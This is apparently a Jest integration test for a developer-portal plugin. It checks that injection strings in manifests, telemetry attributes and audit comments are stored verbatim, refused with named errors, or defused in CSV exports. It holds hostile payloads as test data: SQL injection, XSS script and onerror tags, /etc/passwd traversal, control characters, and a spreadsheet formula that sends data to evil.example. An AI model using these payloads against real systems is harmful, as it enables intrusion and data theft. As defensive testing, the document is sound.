/*
 * Hostile input end to end on the example portal's own parts (real auth,
 * permission and catalog backends, the example steward policy, development
 * sign-in, the MicroApp catalog module and the microapps plugin), on every
 * database TestDatabases reaches:
 * - injection strings in manifest fields are stored and answered verbatim,
 *   or refused with a validation error that names the field;
 * - injection strings in OTLP attributes are stored and answered verbatim
 *   (trimmed, at most 200 characters, U+0000 replaced by U+FFFD: PostgreSQL
 *   text cannot hold NUL, see policyFindings.ts), end-user ids only as hashes;
 * - hostile text in the audit log is kept verbatim and an edit of it is
 *   detected by the chain.
 * The browser half (the same text rendered inertly) is e2e/scenarios/injection.ts.
 */
import { TestDatabases } from '@backstage/backend-test-utils';
import catalogModuleUnprocessed from '@backstage/plugin-catalog-backend-module-unprocessed';
import type { MicroAppEntity } from '@trellis/plugin-microapps-common';
import fs from 'fs';
import type { Knex } from 'knex';
import os from 'os';
import path from 'path';
import request from 'supertest';
import { parse as parseYaml, stringify as toYaml } from 'yaml';
import {
  examples,
  signIn,
  startExamplePortal,
} from './__testUtils__/examplePortal';

jest.setTimeout(180_000);

const SERVICE_TOKEN = 'injection-service-token-0123456789';
/** The example portal's security fixture, which the browser test opens (e2e/scenarios/injection.ts). */
const fixtureFile = path.join(examples, 'hostile', 'hostile-microapps.yaml');
const fixture = parseYaml(
  fs.readFileSync(fixtureFile, 'utf8'),
) as MicroAppEntity;

/** Hostile strings, by what they try. */
const HOSTILE: Array<[label: string, value: string]> = [
  ['sql', "'; DROP TABLE microapps_approvals; --"],
  ['sql-tautology', "' OR '1'='1' --"],
  ['script', '<script>window.__pwned=1</script>'],
  ['img-onerror', '<img src=x onerror="window.__pwned=1">'],
  ['path-traversal', '../../../../etc/passwd'],
  ['percent-nul', 'report%00.pdf'],
  [
    'control-characters',
    'bell\u0007 esc\u001b[31mred\u001b[0m crlf\r\nX-Injected: 1',
  ],
  ['rtl-override', 'invoice\u202Efdp.exe'],
  ['csv-formula', '=HYPERLINK("http://evil.example/?x="&A1,"click")'],
  ['long', '\u202E<script>'.repeat(1000)],
];
/** NUL goes through OTLP (stored as U+FFFD); manifests come from YAML files and carry none here. */
const OTLP_HOSTILE: Array<[label: string, value: string]> = [
  ...HOSTILE,
  ['nul', 'nul\u0000inside'],
];

/** How Trellis stores OTLP attribute text (policyFindings.ts `text`). */
const storedAttribute = (value: string) =>
  value.trim().slice(0, 200).replaceAll('\u0000', '\ufffd');
/** Manifest strings are limited to 255 characters (MicroApp schema): the long case is cut to fit. */
const fit = (value: string) => value.slice(0, 255);
const resourceRef = (value: string) => `resource:${value}`.slice(0, 200);
/** Chargeback cells a spreadsheet would run as a formula are prefixed with `'` (`defuseFormula`). */
const csvShown = (value: string) =>
  value.startsWith('=') ? `'${value}` : value;

function hostileApp(label: string, value: string): MicroAppEntity {
  return {
    apiVersion: 'trellis.dev/v1alpha1',
    kind: 'MicroApp',
    metadata: {
      name: `injection-${label}`,
      title: value,
      description: value,
      tags: ['security-fixture', 'injection'],
    },
    spec: {
      type: 'other',
      lifecycle: 'draft',
      owner: 'group:default/finance-ops',
      version: '0.0.1',
      costCenter: fit(value),
      reach: 'single-user',
      data: { classifications: ['public'], pii: 'none' },
      connectors: [
        { name: fit(value), exposure: 'internal', access: 'read' },
        // A Resource ref: kept under 200 characters, because the catalog stores the ref it
        // resolves to (`resource:default/…`) in a 255-character column on PostgreSQL.
        { name: resourceRef(value), exposure: 'internal', access: 'read' },
      ],
      models: ['azure-gpt-4.1-mini'],
      dependencies: { risk: 'minimal' },
      egress: ['api.example.com'],
    },
  } as MicroAppEntity;
}
const accepted = HOSTILE.map(([label, value]) => hostileApp(label, value));
/** Two manifests the catalog must refuse, each for one hostile field. */
const refusedTag = {
  ...hostileApp('refused-tag', 'x'),
  metadata: { name: 'injection-refused-tag', tags: ['<script>'] },
};
const refusedEgress = hostileApp('refused-egress', 'x');
refusedEgress.spec.egress = ['../../../../etc/passwd'];
/** A Resource ref whose stored form (resource:default/…) would not fit the catalog's 255 characters. */
const refusedConnector = hostileApp('refused-connector', 'x');
refusedConnector.spec.connectors = [
  {
    name: `resource:'; DROP TABLE relations; --${'x'.repeat(215)}`,
    exposure: 'internal',
    access: 'read',
  },
];

/** A minimal RFC 4180 reader: quoted cells, doubled quotes, CRLF inside quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

const databases = TestDatabases.create();

describe.each(databases.eachSupportedId())(
  'hostile input on the example portal (%s)',
  databaseId => {
    let server: any;
    let stop: () => Promise<void>;
    let microappsDb: Knex;
    const tokens = new Map<string, string>([['service', SERVICE_TOKEN]]);
    const workDir = fs.mkdtempSync(
      path.join(os.tmpdir(), 'trellis-injection-'),
    );
    const manifestFile = path.join(workDir, 'hostile.yaml');

    beforeAll(async () => {
      fs.writeFileSync(
        manifestFile,
        [...accepted, refusedTag, refusedEgress, refusedConnector]
          .map(e => toYaml(e))
          .join('---\n'),
      );
      const backend = await startExamplePortal({
        databases,
        databaseId,
        catalogFiles: [
          path.join(examples, 'org.yaml'),
          manifestFile,
          fixtureFile,
        ],
        staticTokens: [{ token: SERVICE_TOKEN, subject: 'injection-test' }],
        features: [catalogModuleUnprocessed],
        onDatabase: (pluginId, knex) => {
          if (pluginId === 'microapps') microappsDb = knex;
        },
      });
      server = backend.server;
      stop = () => backend.stop();
      for (const [user, token] of await signIn(server, [
        'alice',
        'nora',
        'sam',
      ]))
        tokens.set(user, token);
      // Wait until the marketplace knows every accepted manifest (spans are attributed through it).
      await eventually(async () => {
        const res = await as('alice').get('/api/microapps/apps?limit=1');
        return res.body.totalItems === accepted.length + 1 || undefined;
      }, 'the hostile manifests in the marketplace');
    });

    afterAll(async () => {
      await stop?.();
      fs.rmSync(workDir, { recursive: true, force: true });
    });

    async function eventually<T>(
      check: () => Promise<T | undefined>,
      what: string,
    ): Promise<T> {
      for (let i = 0; i < 480; i++) {
        const result = await check();
        if (result !== undefined) return result;
        await new Promise(r => setTimeout(r, 250));
      }
      throw new Error(`Timed out waiting for ${what}`);
    }

    function as(caller: string) {
      const auth = { Authorization: `Bearer ${tokens.get(caller)}` };
      return {
        get: (url: string) => request(server).get(url).set(auth),
        text: (url: string) =>
          request(server)
            .get(url)
            .set(auth)
            .buffer(true)
            .parse((response, done) => {
              let body = '';
              response.setEncoding('utf8');
              response.on('data', chunk => (body += chunk));
              response.on('end', () => done(null, body));
            }),
        post: (url: string, body?: object) =>
          request(server).post(url).set(auth).send(body),
      };
    }

    let spanCounter = 0;
    type KeyValue = {
      key: string;
      value: { stringValue: string } | { intValue: string };
    };
    const str = (key: string, value: string): KeyValue => ({
      key,
      value: { stringValue: value },
    });
    const int = (key: string, value: number): KeyValue => ({
      key,
      value: { intValue: String(value) },
    });
    /** Posts one OTLP/JSON span per attribute list, from a resource with this service.name. */
    const sendSpans = (serviceName: string, spans: KeyValue[][]) =>
      request(server)
        .post('/api/microapps/v1/traces')
        .set('Authorization', `Bearer ${SERVICE_TOKEN}`)
        .send({
          resourceSpans: [
            {
              resource: { attributes: [str('service.name', serviceName)] },
              scopeSpans: [
                {
                  spans: spans.map(attributes => {
                    spanCounter += 1;
                    return {
                      traceId: spanCounter.toString(16).padStart(32, '0'),
                      spanId: spanCounter.toString(16).padStart(16, '0'),
                      name: 'chat',
                      startTimeUnixNano: String((Date.now() - 60_000) * 1e6),
                      endTimeUnixNano: String((Date.now() - 59_000) * 1e6),
                      attributes,
                    };
                  }),
                },
              ],
            },
          ],
        });
    /** Fails unless the receiver accepted every span. */
    const acceptedInFull = (res: request.Response, what: string) => {
      if (res.status !== 200 || JSON.stringify(res.body) !== '{}') {
        throw new Error(
          `The receiver did not accept ${what}: ${res.status} ${JSON.stringify(
            res.body,
          )}`,
        );
      }
    };
    const modelCall = (model: string, extra: KeyValue[] = []) => [
      str('gen_ai.operation.name', 'chat'),
      str('gen_ai.request.model', model),
      int('gen_ai.usage.input_tokens', 1000),
      int('gen_ai.usage.output_tokens', 100),
      ...extra,
    ];

    describe('in manifest fields', () => {
      it.each(HOSTILE)(
        '%s: title, description, cost center and connector names come back verbatim',
        async (label, value) => {
          const name = `injection-${label}`;
          const search = await as('alice')
            .get('/api/microapps/apps')
            .query({ q: value.slice(0, 200), limit: 500 });
          expect(search.status).toBe(200);
          const item = search.body.items.find((i: any) => i.name === name);
          expect(item).toMatchObject({
            title: value,
            description: value,
            tags: ['security-fixture', 'injection'],
          });

          const detail = await as('alice').get(
            `/api/microapps/apps/default/${name}`,
          );
          expect(detail.status).toBe(200);
          expect(detail.body).toMatchObject({
            title: value,
            description: value,
          });

          const entity = (
            await as('alice')
              .get(`/api/catalog/entities/by-name/microapp/default/${name}`)
              .expect(200)
          ).body;
          expect(entity.metadata.title).toBe(value);
          expect(entity.spec.costCenter).toBe(fit(value));
          expect(entity.spec.connectors.map((c: any) => c.name)).toEqual([
            fit(value),
            resourceRef(value),
          ]);
        },
      );

      it("accepts the example portal's hostile fixture and answers its fields verbatim", async () => {
        const { name, title, description } = fixture.metadata;
        expect(title).toContain('<img src=x onerror=');
        expect(description).toContain('<script>');
        const detail = await as('alice').get(
          `/api/microapps/apps/default/${name}`,
        );
        expect(detail.status).toBe(200);
        expect(detail.body).toMatchObject({
          title,
          description,
          lifecycle: 'draft',
        });
        const entity = (
          await as('alice')
            .get(`/api/catalog/entities/by-name/microapp/default/${name}`)
            .expect(200)
        ).body;
        expect(entity.spec.costCenter).toBe(fixture.spec.costCenter);
        expect(entity.spec.connectors).toEqual(fixture.spec.connectors);
        // The third-party connector's name is part of the risk explanation, as text.
        const exposure = detail.body.risk.factors.find(
          (f: any) => f.factor === 'integrationExposure',
        );
        expect(exposure.reason).toContain(fixture.spec.connectors![0].name);
      });

      it.each([
        [
          'metadata.tags',
          (e: any, v: string) => (e.metadata.tags = [v]),
          '"tags.0" is not valid',
        ],
        [
          'metadata.name',
          (e: any, v: string) => (e.metadata.name = v),
          '"metadata.name" is not valid',
        ],
        [
          'spec.egress',
          (e: any, v: string) => (e.spec.egress = [v]),
          'spec.egress[0]',
        ],
      ] as const)(
        'refuses every hostile string in %s with a validation error naming the field',
        async (field, breakIt, message) => {
          for (const [label, value] of HOSTILE) {
            const entity: any = hostileApp('validate', 'plain');
            breakIt(entity, value);
            const res = await as('alice')
              .post('/api/catalog/validate-entity', {
                location: 'url:https://git.example/catalog-info.yaml',
                entity,
              })
              .expect('Content-Type', /application\/json/);
            expect({ field, label, status: res.status }).toEqual({
              field,
              label,
              status: 400,
            });
            expect(JSON.stringify(res.body.errors)).toContain(
              JSON.stringify(message).slice(1, -1),
            );
          }
        },
      );

      it('refuses a cost center or connector name longer than 255 characters, naming the field', async () => {
        for (const [field, breakIt] of [
          [
            'spec.costCenter',
            (e: any) => (e.spec.costCenter = 'C'.repeat(256)),
          ],
          [
            'spec.connectors[0].name',
            (e: any) => (e.spec.connectors[0].name = 'N'.repeat(256)),
          ],
        ] as const) {
          const entity: any = hostileApp('validate', 'plain');
          breakIt(entity);
          const res = await as('alice').post('/api/catalog/validate-entity', {
            location: 'url:https://git.example/catalog-info.yaml',
            entity,
          });
          expect(res.status).toBe(400);
          expect(JSON.stringify(res.body.errors)).toContain(field);
        }
      });

      it('keeps refused manifests out of the catalog with a processing error that names the field', async () => {
        const failed = await eventually(async () => {
          // Entities that never processed are listed as pending or failed, with their errors.
          const lists = await Promise.all(
            ['failed', 'pending'].map(reason =>
              as('alice').get(`/api/catalog/entities/unprocessed/${reason}`),
            ),
          );
          const found = lists
            .flatMap(res => res.body.entities ?? [])
            .filter((e: any) =>
              [
                'injection-refused-tag',
                'injection-refused-egress',
                'injection-refused-connector',
              ].includes(e.unprocessed_entity?.metadata?.name),
            );
          return found.length === 3 ? found : undefined;
        }, 'the refused manifests to fail processing');
        const errors = JSON.stringify(failed.map((e: any) => e.errors));
        expect(errors).toContain('\\"tags.0\\" is not valid');
        expect(errors).toContain('spec.egress[0]');
        expect(errors).toContain(
          'spec.connectors[0].name starts with \\"resource:\\", so it must be a Resource entity ref',
        );
        const listed = await as('alice').get('/api/microapps/apps?q=refused');
        expect(listed.body.totalItems).toBe(0);
      });

      it('keeps them verbatim in costs by app and cost center, and in the chargeback statement with formulas defused', async () => {
        for (const app of accepted) {
          const res = await sendSpans(app.metadata.name, [
            modelCall('azure-gpt-4.1-mini'),
          ]);
          expect(res.status).toBe(200);
          expect(res.body).toEqual({});
        }
        const byCostCenter = (
          await as('alice')
            .get('/api/microapps/costs?groupBy=costCenter')
            .expect(200)
        ).body;
        const byApp = (
          await as('alice').get('/api/microapps/costs?groupBy=app').expect(200)
        ).body;
        const csv = await as('alice').text(
          `/api/microapps/costs/chargeback.csv?month=${new Date()
            .toISOString()
            .slice(0, 7)}`,
        );
        expect(csv.status).toBe(200);
        const [header, ...rows] = parseCsv(csv.body);
        expect(header).toEqual([
          'month',
          'cost_center',
          'team',
          'app',
          'app_title',
          'requests',
          'input_tokens',
          'output_tokens',
          'cost_usd',
        ]);
        for (const app of accepted) {
          const { title } = app.metadata;
          const { costCenter } = app.spec;
          const ref = `microapp:default/${app.metadata.name}`;
          expect(byCostCenter.groups).toContainEqual(
            expect.objectContaining({ key: costCenter, label: costCenter }),
          );
          expect(byApp.groups).toContainEqual(
            expect.objectContaining({ key: ref, label: title }),
          );
          const row = rows.find(r => r[3] === ref);
          expect(row?.slice(1, 5)).toEqual([
            csvShown(costCenter),
            'group:default/finance-ops',
            ref,
            csvShown(title!),
          ]);
        }
      });

      it('answers hostile query parameters with 200 or a 400 that names the parameter, and hostile app names with 400 or 404, never a 500', async () => {
        const problems: string[] = [];
        for (const [label, hostile] of OTLP_HOSTILE) {
          // Past about 16 kB a URL is refused by Node's HTTP parser itself; 500 characters do.
          const value = hostile.slice(0, 500);
          for (const [url, query, parameter] of [
            ['/api/microapps/apps', { q: value }, 'q'],
            ['/api/microapps/apps', { owner: value }, 'owner'],
            ['/api/microapps/violations', { entityRef: value }, 'entityRef'],
            ['/api/microapps/audit', { entityRef: value }, 'entityRef'],
            ['/api/microapps/costs', { groupBy: value }, 'groupBy'],
            [
              `/api/microapps/apps/default/${encodeURIComponent(value)}`,
              {},
              'name',
            ],
            [
              `/api/microapps/apps/default/${encodeURIComponent(value)}/costs`,
              {},
              'name',
            ],
          ] as const) {
            const res = await as('nora').get(url).query(query);
            const ok =
              parameter === 'name'
                ? // Not a MicroApp (404), or a ref the catalog itself refuses (400, e.g. control characters).
                  [400, 404].includes(res.status)
                : res.status === 200 ||
                  (res.status === 400 &&
                    new RegExp(
                      `Invalid query\\. ${parameter}(\\[\\d+\\])?:`,
                    ).test(res.body?.error?.message));
            if (!ok)
              problems.push(
                `${url} ${parameter}=${label}: ${res.status} ${
                  res.body?.error?.message ?? ''
                }`,
              );
          }
        }
        expect(problems).toEqual([]);
      });
    });

    describe('in OTLP attributes', () => {
      const target = 'injection-sql';
      const userId = (value: string) => `enduser ${value}`;

      beforeAll(async () => {
        // A model and an end user per span, and a policy finding per span, from a registered app.
        acceptedInFull(
          await sendSpans(
            target,
            OTLP_HOSTILE.filter(([label]) => label !== 'long').map(
              ([, value]) =>
                modelCall(value, [str('enduser.id', userId(value))]),
            ),
          ),
          'the model calls',
        );
        const findings = await sendSpans(
          target,
          OTLP_HOSTILE.map(([, value]) => [
            str('trellis.policy.decision', 'deny'),
            str('trellis.policy.violation', 'prompt_injection'),
            str('trellis.policy.rule', value),
          ]),
        );
        acceptedInFull(findings, 'the policy findings');
        // Spans that claim to come from an app named by each hostile string.
        for (const [label, value] of OTLP_HOSTILE) {
          acceptedInFull(
            await sendSpans(value, [modelCall('azure-gpt-4.1-mini')]),
            `service.name ${label}`,
          );
        }
      });

      it.each(OTLP_HOSTILE)(
        '%s: trellis.policy.rule comes back verbatim from /violations',
        async (_, value) => {
          const res = await as('alice').get(
            `/api/microapps/apps/default/${target}/violations?type=prompt_injection&limit=500`,
          );
          expect(res.status).toBe(200);
          expect(res.body.items.map((v: any) => v.rule)).toContain(
            storedAttribute(value),
          );
        },
      );

      it.each(OTLP_HOSTILE.filter(([label]) => label !== 'long'))(
        '%s: gen_ai.request.model comes back verbatim from the costs by model and as an undeclared model',
        async (_, value) => {
          const stored = storedAttribute(value);
          const byModel = (
            await as('alice')
              .get('/api/microapps/costs?groupBy=model')
              .expect(200)
          ).body;
          expect(byModel.groups).toContainEqual(
            expect.objectContaining({ key: stored, label: stored }),
          );
          const app = (
            await as('alice')
              .get(`/api/microapps/apps/default/${target}/costs`)
              .expect(200)
          ).body;
          expect(app.daily.map((d: any) => d.model)).toContain(stored);
          const undeclared = (
            await as('alice').get(
              `/api/microapps/apps/default/${target}/violations?type=undeclared_model&limit=500`,
            )
          ).body.items;
          expect(undeclared.map((v: any) => v.rule)).toContain(stored);
        },
      );

      it('refuses a model name of 200 characters or more with a message naming the attribute', async () => {
        const [, long] = OTLP_HOSTILE.find(([label]) => label === 'long')!;
        const res = await sendSpans(target, [modelCall(long)]);
        expect(res.status).toBe(200);
        expect(res.body.partialSuccess).toMatchObject({ rejectedSpans: '1' });
        expect(res.body.partialSuccess.errorMessage).toContain(
          'gen_ai.request.model must be at most 199 characters',
        );
      });

      it.each(OTLP_HOSTILE)(
        '%s: service.name comes back verbatim as the claimed app of an unregistered_app finding',
        async (_, value) => {
          const stored = storedAttribute(value);
          const res = await as('alice').get(
            '/api/microapps/violations?type=unregistered_app&limit=500',
          );
          expect(res.status).toBe(200);
          const finding = res.body.items.find((v: any) =>
            v.detail?.includes(`service.name "${stored}"`),
          );
          expect(finding).toMatchObject({
            entityRef: `microapp:default/${stored.toLocaleLowerCase('en-US')}`,
            severity: 'medium',
          });
          const byApp = (
            await as('alice')
              .get('/api/microapps/costs?groupBy=app')
              .expect(200)
          ).body;
          expect(byApp.groups.map((g: any) => g.key)).toContain(
            finding.entityRef,
          );
        },
      );

      it('counts hostile end-user ids as distinct users and keeps them only as hashes', async () => {
        const counted = OTLP_HOSTILE.filter(
          ([label]) => label !== 'long',
        ).length;
        const item = await eventually(async () => {
          const res = await as('alice').get(
            '/api/microapps/apps?q=injection-sql',
          );
          const found = res.body.items.find((i: any) => i.name === target);
          return found?.users30d === counted ? found : undefined;
        }, 'the marketplace to count the end users');
        expect(item.users30d).toBe(counted);
        const hashes: string[] = (
          await microappsDb('microapps_usage_users').select('user_hash')
        ).map(r => r.user_hash);
        expect(hashes.every(hash => /^[0-9a-f]{32,64}$/.test(hash))).toBe(true);
        const everything = JSON.stringify([
          (await as('alice').get('/api/microapps/violations?limit=500')).body,
          (await as('alice').get(`/api/microapps/apps/default/${target}/costs`))
            .body,
          (await as('alice').get('/api/microapps/costs?groupBy=app')).body,
        ]);
        expect(everything).not.toContain('enduser ');
      });
    });

    describe('in the audit log', () => {
      it('keeps a hostile comment verbatim, and /audit/verify reports an edit of it', async () => {
        const comment = `${HOSTILE.find(([l]) => l === 'sql')![1]} ${
          HOSTILE.find(([l]) => l === 'script')![1]
        }`;
        const app = accepted[0];
        const granted = await as('nora').post(
          `/api/microapps/apps/default/${app.metadata.name}/badges/security-review/grant`,
          {
            comment,
          },
        );
        expect(granted.status).toBe(200);
        const ref = `microapp:default/${app.metadata.name}`;
        const [entry] = (
          await as('nora')
            .get(`/api/microapps/audit?entityRef=${encodeURIComponent(ref)}`)
            .expect(200)
        ).body.items;
        expect(entry).toMatchObject({
          action: 'badge.granted',
          actor: 'user:default/nora',
          comment,
        });
        const exported = (
          (await as('nora').text('/api/microapps/audit/export')).body as string
        )
          .trim()
          .split('\n')
          .map(line => JSON.parse(line));
        expect(exported.find(e => e.id === entry.id)).toMatchObject({
          comment,
        });
        expect(
          (await as('nora').get('/api/microapps/audit/verify')).body,
        ).toMatchObject({ valid: true });

        // Someone with database access rewrites the comment to plant a script.
        await microappsDb('microapps_audit_log')
          .where({ id: entry.id })
          .update({ comment: '<img src=x onerror="window.__pwned=1">' });
        expect(
          (await as('nora').get('/api/microapps/audit/verify')).body,
        ).toMatchObject({
          valid: false,
          firstBrokenId: Number(entry.id),
          reason: `entry ${entry.id} was changed after it was written`,
        });
        await microappsDb('microapps_audit_log')
          .where({ id: entry.id })
          .update({ comment });
        expect(
          (await as('nora').get('/api/microapps/audit/verify')).body,
        ).toMatchObject({ valid: true });
      });
    });
  },
);
